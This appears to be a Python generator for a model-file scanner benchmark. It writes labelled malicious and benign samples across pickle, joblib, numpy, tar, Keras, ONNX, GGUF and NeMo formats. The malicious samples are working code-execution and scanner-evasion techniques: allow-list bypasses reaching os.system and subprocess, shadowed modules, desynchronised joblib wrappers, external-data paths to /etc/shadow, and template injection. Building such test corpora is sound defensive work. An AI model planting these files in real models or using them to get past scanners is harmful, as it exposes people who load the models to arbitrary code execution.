"""Round-two red-team samples: techniques the first corpus did not contain (2026 review).

``corpus.py`` calls ``build_unseen``. Every malicious sample is written as bytes (nothing here runs a
payload); those that a real loader accepts were checked once by loading them in a throw-away process
with a harmless ``echo`` command. Benign edge cases sit beside them and must stay ``safe``.

    .venv/bin/python benchmarks/scanner/unseen.py OUT     # only this part, for quick red-team runs
"""

from __future__ import annotations

import io
import json
import lzma
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

sys.path.insert(0, str(Path(__file__).parent))
from payloads import CMD, call, g, u

Put = Callable[[str, bytes, str, str, str], None]
"""put(rel, data, label, format, technique)."""

SYSTEM = call("os", "system", CMD)
P0_SYSTEM = b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR."


def _binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _torch_zip(data_pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


def _npy(descr: str, payload: bytes) -> bytes:
    header = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': (1,), }}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def _joblib_wrapper(
    *, build: bytes, elsize: int, fillers: int = 0, array: bytes, tail: bytes, count: int = 4
) -> bytes:
    """A joblib pickle {'a': <f8 array of ``count`` items>} with a hand-built NumpyArrayWrapper."""
    state = (
        b"}("
        + u("subclass")
        + u("numpy")
        + u("ndarray")
        + b"\x93"
        + u("shape")
        + b"K"
        + bytes([count])
        + b"\x85"
        + u("order")
        + u("C")
        + b"".join(u(f"k{i}") + b"N" for i in range(fillers))
        + u("dtype")
        + u("numpy")
        + u("dtype")
        + b"\x93"
        + u("f8")
        + b"\x89\x88\x87R(K\x03"
        + u("<")
        + b"NNNJ"
        + struct.pack("<i", elsize)
        + b"J\xff\xff\xff\xffK\x00tb"
        + u("allow_mmap")
        + b"\x88"
        + u("numpy_array_alignment_bytes")
        + b"K\x10ub"
    )
    return b"\x80\x04}" + u("a") + build + state + array + tail


_NAW = u("joblib.numpy_pickle") + u("NumpyArrayWrapper") + b"\x93"
_JOBLIB_TAIL = b"s0" + u("os") + u("system") + b"\x93" + u(CMD) + b"\x85R."


def _v7_tar(members: dict[str, bytes]) -> bytes:
    """A pre-POSIX (v7) tar: ustar headers with the magic and version fields blanked."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    raw = bytearray(buf.getvalue())
    pos = 0
    while pos + 512 <= len(raw) and raw[pos : pos + 512] != bytes(512):
        hdr = raw[pos : pos + 512]
        size = int(hdr[124:136].rstrip(b"\x00 ") or b"0", 8)
        hdr[257:265] = bytes(8)
        hdr[265:345] = bytes(80)  # v7 has no user/group names either
        hdr[148:156] = b" " * 8
        hdr[148:156] = b"%06o\x00 " % sum(hdr)
        raw[pos : pos + 512] = hdr
        pos += 512 + (size + 511) // 512 * 512
    return bytes(raw)


def _zip_count_zero(files: dict[str, bytes]) -> bytes:
    """A zip whose end record claims 0 entries; Python's zipfile reads the directory by its size."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    raw = bytearray(buf.getvalue())
    eocd = raw.rfind(b"PK\x05\x06")
    raw[eocd + 8 : eocd + 12] = bytes(4)
    return bytes(raw)


_LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {
        "name": "lambda",
        "function": {
            "class_name": "__lambda__",
            "config": {
                "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHkAqQFO",
                "defaults": None,
                "closure": None,
            },
        },
    },
    "registered_name": None,
}


def _keras_seq(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": layers}}


def _reorder(obj: Any) -> Any:
    """The same JSON value with every object's keys in reverse order (``class_name`` last)."""
    if isinstance(obj, dict):
        return {k: _reorder(obj[k]) for k in reversed(list(obj))}
    if isinstance(obj, list):
        return [_reorder(v) for v in obj]
    return obj


def _onnx_models() -> dict[str, tuple[bytes, str]]:
    import onnx
    from onnx import TensorProto, helper

    def ext_tensor(name: str, location: str) -> onnx.TensorProto:
        t = helper.make_tensor(name, TensorProto.FLOAT, [4], np.zeros(4, np.float32).tolist())
        t.ClearField("float_data")
        t.data_location = TensorProto.EXTERNAL
        e = t.external_data.add()
        e.key, e.value = "location", location
        return t

    def model(graph: onnx.GraphProto, **kw: Any) -> bytes:
        m = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], **kw)
        return m.SerializeToString()

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
    relu = helper.make_node("Relu", ["x"], ["y"])
    out: dict[str, tuple[bytes, str]] = {}
    sparse = helper.make_sparse_tensor(
        ext_tensor("sv", "../../../../etc/passwd"),
        helper.make_tensor("si", TensorProto.INT64, [1], [0]),
        [4],
    )
    g1 = helper.make_graph([relu], "g", [x], [y], sparse_initializer=[sparse])
    out["onnx_sparse_external.onnx"] = (model(g1), "external data path in a sparse initializer")
    node = helper.make_node("Identity", ["x"], ["y"])
    node.attribute.append(helper.make_attribute("consts", [ext_tensor("c", "/etc/shadow")]))
    g2 = helper.make_graph([node], "g", [x], [y])
    out["onnx_attr_tensors_external.onnx"] = (model(g2), "external data in an attribute's tensor list")
    init_graph = helper.make_graph(
        [helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")], "init", [x], [y]
    )
    ti = onnx.TrainingInfoProto()
    ti.initialization.CopyFrom(init_graph)
    g3 = helper.make_graph([relu], "g", [x], [y])
    m3 = helper.make_model(g3, opset_imports=[helper.make_opsetid("", 17)])
    m3.training_info.append(ti)
    out["onnx_training_info_pyop.onnx"] = (m3.SerializeToString(), "PyOp hidden in training_info")
    g4 = helper.make_graph([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")], "g", [x], [y])
    m4 = helper.make_model(g4, opset_imports=[helper.make_opsetid("", 17)])
    m4.ir_version = 8
    raw = m4.SerializeToString()
    out["onnx_fields_reversed.onnx"] = (
        b"".join(reversed(_pb_fields(raw))),
        "ModelProto fields in reverse order (graph before ir_version); onnx.load accepts any order",
    )
    return out


def _pb_fields(raw: bytes) -> list[bytes]:
    """Split a protobuf message into its top-level fields (raw bytes each)."""

    def varint(i: int) -> tuple[int, int]:
        out = shift = 0
        while True:
            c = raw[i]
            i += 1
            out |= (c & 0x7F) << shift
            shift += 7
            if not c & 0x80:
                return out, i

    fields, i = [], 0
    while i < len(raw):
        start = i
        key, i = varint(i)
        if key & 7 == 0:
            _, i = varint(i)
        else:
            n, i = varint(i)
            i += n
        fields.append(raw[start:i])
    return fields


def _benign_onnx() -> dict[str, bytes]:
    import onnx
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
    sparse = helper.make_sparse_tensor(
        helper.make_tensor("sv", TensorProto.FLOAT, [1], [1.0]),
        helper.make_tensor("si", TensorProto.INT64, [1], [0]),
        [4],
    )
    w = helper.make_tensor("w", TensorProto.FLOAT, [4], [1.0, 2.0, 3.0, 4.0])
    w.ClearField("float_data")
    w.data_location = TensorProto.EXTERNAL
    e = w.external_data.add()
    e.key, e.value = "location", "weights/w.bin"
    node = helper.make_node("Add", ["x", "w"], ["y"])
    graph = helper.make_graph([node], "g", [x], [y], initializer=[w], sparse_initializer=[sparse])
    m = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    ti = onnx.TrainingInfoProto()
    ti.algorithm.CopyFrom(helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "alg", [x], [y]))
    m.training_info.append(ti)
    return {"sparse_external_training.onnx": m.SerializeToString()}


def _nemo(config: bytes) -> bytes:
    """A ``.nemo`` archive (tar.gz) with ``model_config.yaml`` and a weights file."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in (("model_config.yaml", config), ("model_weights.ckpt", bytes(256))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


_NEMO_CFG = (
    "model:\n  encoder:\n    _target_: nemo.collections.asr.modules.ConformerEncoder\n    d_model: 256\n"
)


def malicious() -> dict[str, tuple[bytes, str, str]]:
    """name -> (bytes, format, technique)."""
    m: dict[str, tuple[bytes, str, str]] = {}

    def add(name: str, data: bytes, fmt: str, technique: str) -> None:
        m[name] = (data, fmt, technique)

    # -- pickle: names and callables -------------------------------------------------------------------
    add(
        "dotted_attr_popen.pkl",
        b"\x80\x04"
        + u("sklearn.base")
        + u("np.f2py.subprocess.Popen")
        + b"\x93"
        + u("echo")
        + u(CMD)
        + b"\x86\x85R.",
        "pickle",
        "protocol-4 dotted name walks module attributes from an allow-listed prefix to subprocess.Popen",
    )
    add(
        "dotted_attr_global_cdll.pkl",
        b"\x80\x04ctorch.nn.modules.module\ntorch.ctypes.CDLL\n" + u("libc.so.6") + b"\x85R.",
        "pickle",
        "GLOBAL with a dotted name: torch.nn.modules.module.torch.ctypes.CDLL (native library load)",
    )
    add(
        "load_from_bytes_p0.pkl",
        b"\x80\x02"
        + g("torch.storage", "_load_from_bytes")
        + b"C"
        + bytes([len(P0_SYSTEM)])
        + P0_SYSTEM
        + b"\x85R.",
        "pickle",
        "allow-listed torch.storage._load_from_bytes runs torch.load(weights_only=False) on a short "
        "protocol-0 pickle",
    )
    add(
        "load_from_bytes_zip.pkl",
        b"\x80\x03" + g("torch.storage", "_load_from_bytes") + _binbytes(_torch_zip(SYSTEM)) + b"\x85R.",
        "pickle",
        "torch.storage._load_from_bytes on a zip checkpoint whose data.pkl calls os.system",
    )
    add(
        "headerless_p4.bin",
        u("os") + u("system") + b"\x93" + u(CMD) + b"\x85R.",
        "pickle",
        "protocol-4 opcodes without a PROTO header (first byte 0x8c)",
    )
    body = u("os") + u("system") + b"\x93" + u(CMD) + b"\x85R."
    add(
        "headerless_frame.bin",
        b"\x95" + struct.pack("<Q", len(body)) + body,
        "pickle",
        "a FRAME opcode first, no PROTO header",
    )
    add(
        "junk_then_p1_dup.bin",
        bytes(range(200, 256)) * 2 + b"\n" + b"cos\nsystem\n2(S'" + CMD.encode() + b"'\ntR.",
        "pickle",
        "protocol-0/1 pickle after junk, GLOBAL followed by DUP (not a common next opcode)",
    )
    # -- joblib array-wrapper desynchronisation -------------------------------------------------------
    add(
        "joblib_desync_elsize.joblib",
        _joblib_wrapper(
            build=_NAW + b")\x81", elsize=1, array=b"\x00" + bytes(3) + b"s." + b"N." * 13, tail=_JOBLIB_TAIL
        ),
        "joblib",
        "dtype state claims itemsize 1 for f8 (numpy ignores it, joblib reads 8 bytes per item)",
    )
    add(
        "joblib_desync_reconstructor.joblib",
        _joblib_wrapper(
            build=g("copyreg", "_reconstructor") + _NAW + g("builtins", "object") + b"N\x87R",
            elsize=-1,
            array=b"\x00" + b"s." + b"N." * 15,
            tail=_JOBLIB_TAIL,
        ),
        "joblib",
        "NumpyArrayWrapper built through copyreg._reconstructor, so its raw array bytes are not skipped",
    )
    add(
        "joblib_desync_alignment.joblib",
        _joblib_wrapper(
            build=_NAW + b")\x81",
            elsize=-1,
            fillers=64,
            array=b"\x02\x00\x00" + bytes(29) + b"s.N",
            tail=_JOBLIB_TAIL,
        ),
        "joblib",
        "numpy_array_alignment_bytes placed after 64 other state keys",
    )
    # -- numpy ---------------------------------------------------------------------------------------
    add("descr_object.npy", _npy("object", SYSTEM), "npy", "dtype spelled 'object' (no 'O' in the header)")
    # -- compressed streams with uncommon headers -----------------------------------------------------
    add(
        "lzma_small_dict.joblib",
        lzma.compress(
            SYSTEM, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096}]
        ),
        "joblib-compressed",
        "lzma-alone stream with a 4 KiB dictionary (header 5d 00 10 00 00)",
    )
    co = zlib.compressobj(9, zlib.DEFLATED, 10)
    add(
        "zlib_small_window.pkl.z",
        co.compress(SYSTEM) + co.flush(),
        "joblib-compressed",
        "zlib stream with a 1 KiB window (first byte 0x28)",
    )
    # -- tar -----------------------------------------------------------------------------------------
    p1 = b"cos\nsystem\n2(S'" + CMD.encode() + b"'\ntR."
    add(
        "v7_legacy.tar",
        _v7_tar(
            {
                "sys_info": pickle.dumps({"little_endian": True}, 2),
                "storages": p1,
                "tensors": pickle.dumps(0, 2),
                "pickle": pickle.dumps({}, 2),
            }
        ),
        "tar",
        "legacy torch tar in the pre-POSIX v7 layout (no ustar magic); torch.load unpickles 'storages'",
    )
    # -- nesting ---------------------------------------------------------------------------------------
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w") as z:
        z.writestr("arr_0.npy", _npy("|O", SYSTEM))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("bundle/arrays.npz", npz.getvalue())
    tgz = io.BytesIO()
    with tarfile.open(fileobj=tgz, mode="w:gz") as t:
        info = tarfile.TarInfo("release/model.zip")
        info.size = len(outer.getvalue())
        t.addfile(info, io.BytesIO(outer.getvalue()))
    add("nested_npy_npz_zip_tgz.tar.gz", tgz.getvalue(), "tar", "object .npy in .npz in zip in tar.gz")
    # -- zip directory tricks ---------------------------------------------------------------------------
    add(
        "count_zero.keras",
        _zip_count_zero(
            {
                "metadata.json": b'{"keras_version": "3.6.0"}',
                "config.json": json.dumps(_keras_seq([_LAMBDA])).encode(),
            }
        ),
        "keras",
        "end record says 0 entries; Python's zipfile (Keras) reads the directory by its size",
    )
    tp = io.BytesIO()
    with zipfile.ZipFile(tp, "w") as z:
        z.writestr("pkg/.data/version", "6\n")
        z.writestr("pkg/.data/extern_modules", "os\n")
        z.writestr(
            "pkg/collections.py", f"import os\nos.system({CMD!r})\nclass OrderedDict(dict):\n    pass\n"
        )
        z.writestr("pkg/model/model.pkl", b"\x80\x04" + u("collections") + u("OrderedDict") + b"\x93)R.")
    add(
        "torch_package_shadow.pt",
        tp.getvalue(),
        "zip",
        "torch.package whose collections.py shadows the allow-listed collections.OrderedDict its pickle uses",
    )
    # -- keras -----------------------------------------------------------------------------------------
    kz = io.BytesIO()
    with zipfile.ZipFile(kz, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("config.json", json.dumps(_keras_seq([_LAMBDA])))
        z.writestr("model.weights.npz", b"PK\x05\x06" + bytes(18))
    add(
        "config_only.keras",
        kz.getvalue(),
        "keras",
        "no metadata.json or .h5: only config.json and npz weights",
    )
    get_file = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "get_file",
    }
    dense = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "d", "units": 2, "kernel_initializer": get_file},
    }
    kz2 = io.BytesIO()
    with zipfile.ZipFile(kz2, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", '{"keras_version": "3.6.0"}')
        z.writestr("config.json", json.dumps(_keras_seq([dense])))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
    add(
        "keras_get_file.keras",
        kz2.getvalue(),
        "keras",
        "keras.utils.get_file referenced from config (safe_mode bypass)",
    )
    tfop = {
        "class_name": "TFOpLambda",
        "config": {"name": "tf.io.write_file", "function": "io.write_file", "trainable": False},
    }
    kz3 = io.BytesIO()
    with zipfile.ZipFile(kz3, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", '{"keras_version": "2.15.0"}')
        z.writestr("config.json", json.dumps(_keras_seq([tfop])))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
    add("tfoplambda_write_file.keras", kz3.getvalue(), "keras", "TFOpLambda layer calling tf.io.write_file")
    add(
        "model_from_json.json",
        json.dumps(_reorder(_keras_seq([_LAMBDA])), indent=2).encode(),
        "keras",
        "a bare Keras JSON (model_from_json) with a Lambda, keys in reverse order",
    )
    # -- onnx -----------------------------------------------------------------------------------------
    for name, (data, tech) in _onnx_models().items():
        add(name, data, "onnx", tech)
    # -- gguf ------------------------------------------------------------------------------------------
    template = "{% set u = '_' * 2 %}{{ ''[u ~ 'class' ~ u][u ~ 'mro' ~ u][1][u ~ 'subclasses' ~ u]() }}"
    add(
        "ssti_concat.gguf",
        _gguf({"tokenizer.chat_template": template}),
        "gguf",
        "SSTI with dunders built by ~",
    )
    add(
        "hydra_target.nemo",
        _nemo((_NEMO_CFG + "  hook:\n    _target_: subprocess.run\n    args: [id]\n").encode()),
        "tar",
        "NeMo .nemo whose model_config.yaml has a Hydra _target_ subprocess.run (CVE-2025-23304)",
    )
    add(
        "remote_code.nemo",
        _nemo(
            (_NEMO_CFG + "train_ds:\n  hf_data_cfg:\n    path: x/y\n    trust_remote_code: true\n").encode()
        ),
        "tar",
        "NeMo config handing trust_remote_code=true to datasets.load_dataset",
    )
    return m


def _gguf(kv: dict[str, str]) -> bytes:
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
    for k, v in kv.items():
        kb, vb = k.encode(), v.encode()
        out += struct.pack("<Q", len(kb)) + kb + struct.pack("<I", 8) + struct.pack("<Q", len(vb)) + vb
    return out


def h5_specs(out: Path) -> list[tuple[dict[str, Any], str, str]]:
    """HDF5 files for ``write_h5.py``: (spec, label, technique)."""
    lam_legacy = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": ["4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHkAqQFO", None, None],
            "function_type": "lambda",
        },
    }
    seq = {"class_name": "Sequential", "config": {"name": "s", "layers": [lam_legacy]}}
    benign = {
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [{"class_name": "Dense", "config": {"units": 3}}]},
    }
    base = out / "malicious" / "keras-h5"
    return [
        (
            {"path": str(base / "userblock_lambda.h5"), "config": seq, "userblock": 512},
            "malicious",
            "HDF5 superblock after a 512-byte user block of junk",
        ),
        (
            {"path": str(base / "reordered_lambda.h5"), "config_text": json.dumps(_reorder(seq), indent=1)},
            "malicious",
            "model_config JSON with keys reordered and indented (no '{\"class_name\"' marker)",
        ),
        (
            {"path": str(base / "bytes_attr_lambda.h5"), "config": seq, "as_bytes": True},
            "malicious",
            "model_config as a fixed-length byte string attribute (legacy Keras 2)",
        ),
        (
            {
                "path": str(out / "benign" / "keras-h5" / "reordered_dense.h5"),
                "config_text": json.dumps(_reorder(benign), indent=1),
            },
            "benign",
            "reordered keys, no code",
        ),
    ]


def benign() -> dict[str, tuple[bytes, str, str]]:
    """Benign edge cases that must stay safe: name -> (bytes, format, technique)."""
    import joblib
    import torch
    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import load_iris
    from sklearn.ensemble import HistGradientBoostingClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    b: dict[str, tuple[bytes, str, str]] = {}

    def add(name: str, data: bytes, fmt: str, technique: str) -> None:
        b[name] = (data, fmt, technique)

    x, y = load_iris(return_X_y=True)
    pipe = Pipeline(
        [
            (
                "ct",
                ColumnTransformer(
                    [("log", FunctionTransformer(np.log1p), [0, 1]), ("sc", StandardScaler(), [2, 3])]
                ),
            ),
            ("hgb", HistGradientBoostingClassifier(max_iter=10)),
        ]
    ).fit(x, y)
    cal = CalibratedClassifierCV(LogisticRegression(max_iter=300), cv=3).fit(x, y)
    for comp in (0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3), ("lz4", 3)):
        buf = io.BytesIO()
        try:
            joblib.dump(pipe, buf, compress=comp)
        except ValueError:
            continue  # lz4 not installed
        tag = comp[0] if isinstance(comp, tuple) else "raw"
        add(f"pipeline_{tag}.joblib", buf.getvalue(), "joblib", f"ColumnTransformer+HGB pipeline, {tag}")
    for proto in range(6):
        add(
            f"calibrated_p{proto}.pkl",
            pickle.dumps(cal, proto),
            "pickle",
            f"CalibratedClassifierCV protocol {proto}",
        )
    sd: dict[str, Any] = {
        "f32": torch.randn(3, 3),
        "bf16": torch.randn(4).to(torch.bfloat16),
        "f16": torch.randn(4).half(),
        "f8": torch.randn(4).to(torch.float8_e4m3fn),
        "c64": torch.randn(2, dtype=torch.complex64),
        "i8": torch.arange(5, dtype=torch.int8),
        "u8": torch.arange(5, dtype=torch.uint8),
        "b": torch.tensor([True, False]),
        "i64": torch.arange(3),
        "q": torch.quantize_per_tensor(torch.randn(4), 0.1, 10, torch.quint8),
        "qc": torch.quantize_per_channel(
            torch.randn(2, 3), torch.tensor([0.1, 0.2]), torch.tensor([0, 1]), 0, torch.qint8
        ),
        "coo": torch.randn(3, 3).to_sparse(),
        "csr": torch.randn(3, 3).to_sparse_csr(),
        "param": torch.nn.Parameter(torch.randn(2)),
        "meta": {"epoch": 3, "names": ["a", "b"], "lr": 0.1},
    }
    for proto in (2, 3, 4, 5):
        buf = io.BytesIO()
        torch.save(sd, buf, pickle_protocol=proto)
        add(
            f"tensor_zoo_p{proto}.pt",
            buf.getvalue(),
            "pytorch-zip",
            f"many tensor types, pickle protocol {proto}",
        )
    buf = io.BytesIO()
    torch.save(
        {k: v for k, v in sd.items() if k not in ("coo", "csr", "q", "qc")},
        buf,
        _use_new_zipfile_serialization=False,
    )
    add("tensor_zoo_legacy.pt", buf.getvalue(), "pytorch-legacy", "many tensor types, legacy format")
    for proto in (2, 4, 5):
        add(
            f"plain_pickled_tensor_p{proto}.pkl",
            pickle.dumps({"w": torch.randn(3), "p": torch.nn.Parameter(torch.randn(2))}, proto),
            "pickle",
            "tensors pickled with plain pickle (storages via torch.storage._load_from_bytes)",
        )
    from collections import OrderedDict

    big = OrderedDict((f"layer{i}.weight", i * 0.5) for i in range(20000))
    for proto in range(6):
        add(
            f"big_ordereddict_p{proto}.pkl",
            pickle.dumps(big, proto),
            "pickle",
            f"20000-key OrderedDict, protocol {proto}",
        )
    arrays = {
        "f2": np.arange(4, dtype=np.float16),
        "c16": np.arange(4, dtype=np.complex128),
        "dt": np.array(["2026-01-01", "2026-02-01"], dtype="datetime64[D]"),
        "td": np.array([1, 2], dtype="timedelta64[s]"),
        "u": np.array(["alpha", "béta"]),
        "s": np.array([b"ab", b"cd"]),
        "rec": np.array([(1, 2.0, b"x")], dtype=[("a", "<i4"), ("Out", "<f8"), ("c", "S1")]),
        "bool": np.array([True, False]),
        "sub": np.zeros(2, dtype=[("v", "<f4", (3,))]),
    }
    for proto in range(6):
        add(
            f"numpy_zoo_p{proto}.pkl",
            pickle.dumps(arrays, proto),
            "pickle",
            f"numpy arrays of many dtypes, protocol {proto}",
        )
    zb = io.BytesIO()
    np.savez_compressed(zb, **arrays)
    add("numpy_zoo.npz", zb.getvalue(), "npz", "npz of many dtypes (field named 'Out')")
    jb = io.BytesIO()
    joblib.dump(arrays, jb)
    add("numpy_zoo.joblib", jb.getvalue(), "joblib", "joblib of many dtypes (aligned arrays)")
    for name, data in _benign_onnx().items():
        add(name, data, "onnx", "sparse initializer, relative external data, training_info")
    kz = io.BytesIO()
    dense = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "d", "units": 2, "activation": "relu"},
    }
    with zipfile.ZipFile(kz, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", '{"keras_version": "3.6.0"}')
        z.writestr("config.json", json.dumps(_reorder(_keras_seq([dense])), indent=2))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
    add("reordered.keras", kz.getvalue(), "keras", "keys in reverse order, indented")
    add("model.json", json.dumps(_keras_seq([dense])).encode(), "keras", "bare Keras JSON without code")
    add(
        "words.txt",
        b"macos\nsystem\n2\ncos\nsine\n(tangent)\n" * 50,
        "text",
        "word list that looks a little like protocol-0 globals",
    )
    rng = np.random.default_rng(7)
    add(
        "variables.data-00000-of-00001",
        rng.standard_normal(8 << 20).astype(np.float32).tobytes(),
        "unknown",
        "raw float32 weights (TensorFlow checkpoint data shard), 32 MiB",
    )
    add("random.bin", rng.bytes(64 << 20), "unknown", "64 MiB of random bytes (encrypted or compressed blob)")
    add(
        "ordinary.nemo",
        _nemo(_NEMO_CFG.encode()),
        "tar",
        "NeMo .nemo with ordinary Hydra _target_ model classes",
    )
    template = "{% for m in messages %}{{ '<|' ~ m['role'] ~ '|>' ~ m['content'] }}{% endfor %}"
    add("chat.gguf", _gguf({"tokenizer.chat_template": template}), "gguf", "ordinary chat template with ~")
    return b


def build_unseen(put: Put, out: Path) -> list[dict[str, Any]]:
    """Write the round-two samples through ``put``; return the HDF5 specs for ``write_h5.py``."""
    for name, (data, fmt, tech) in malicious().items():
        put(f"unseen/{name}", data, "malicious", fmt, f"unseen: {tech}")
    for name, (data, fmt, tech) in benign().items():
        put(f"unseen/{name}", data, "benign", fmt, f"unseen: {tech}")
    specs = []
    for spec, label, tech in h5_specs(out):
        spec = dict(spec)
        name = Path(spec["path"]).name
        spec["path"] = str(out / label / "keras-h5" / "unseen" / name)
        specs.append(spec)
        put(f"unseen/{name}", b"", label, "keras-h5", f"unseen: {tech}")
    return specs


if __name__ == "__main__":
    target = Path(sys.argv[1])
    labels: list[dict[str, str]] = []

    def _put(rel: str, data: bytes, label: str, fmt: str, technique: str) -> None:
        path = target / label / fmt / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if data:
            path.write_bytes(data)
        labels.append(
            {"path": str(path.relative_to(target)), "label": label, "format": fmt, "technique": technique}
        )

    specs = build_unseen(_put, target)
    (target / "h5_specs.json").write_text(json.dumps(specs))
    (target / "labels.json").write_text(json.dumps(labels, indent=1))
    print(f"{len(labels)} files in {target}")
